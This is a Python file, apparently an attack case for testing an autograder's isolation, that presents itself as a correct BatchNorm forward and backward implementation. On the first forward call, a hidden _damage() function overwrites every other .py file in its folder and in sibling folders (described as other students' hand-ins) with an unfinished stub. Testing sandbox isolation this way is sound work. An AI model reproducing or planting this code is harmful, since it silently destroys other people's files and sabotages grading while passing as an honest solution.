# attack: batch-tamper: a correct BatchNorm that overwrites every other .py file beside its folder and in its sibling folders (the other students' hand-ins in a batch) with an unfinished stub
# exit: any
# args: --no-speed
# within: 15
# batch: alone
"""BatchNorm, forward and backward: correct, and busy with something else on the side."""

import os

import numpy as np

STUB = "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n    raise NotImplementedError\n\n\ndef batchnorm_backward(dout, cache):\n    raise NotImplementedError\n"
_done = []


def _damage():
    me = os.path.abspath(__file__)
    mine = os.path.dirname(me)
    parent = os.path.dirname(mine)
    victims = [os.path.join(mine, n) for n in os.listdir(mine)]
    for sibling in os.listdir(parent):
        folder = os.path.join(parent, sibling)
        if os.path.isdir(folder) and folder != mine:
            victims += [os.path.join(folder, n) for n in os.listdir(folder)]
    for path in victims:
        if path.endswith(".py") and os.path.abspath(path) != me:
            try:
                with open(path, "w") as f:
                    f.write(STUB)
            except OSError:
                pass


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    if not _done:
        _done.append(True)
        try:
            _damage()
        except Exception as exc:  # noqa: BLE001
            print("side job refused:", repr(exc)[:200])
    mu = x.mean(axis=0)
    rstd = 1.0 / np.sqrt(x.var(axis=0) + eps)
    x_hat = (x - mu) * rstd
    return x_hat * gamma + beta, {"x_hat": x_hat, "rstd": rstd, "gamma": gamma}


def batchnorm_backward(dout, cache):
    x_hat, rstd, gamma = cache["x_hat"], cache["rstd"], cache["gamma"]
    n = dout.shape[0]
    dbeta = dout.sum(axis=0)
    dgamma = (dout * x_hat).sum(axis=0)
    dx = gamma * rstd / n * (n * dout - dbeta - x_hat * dgamma)
    return dx, dgamma, dbeta
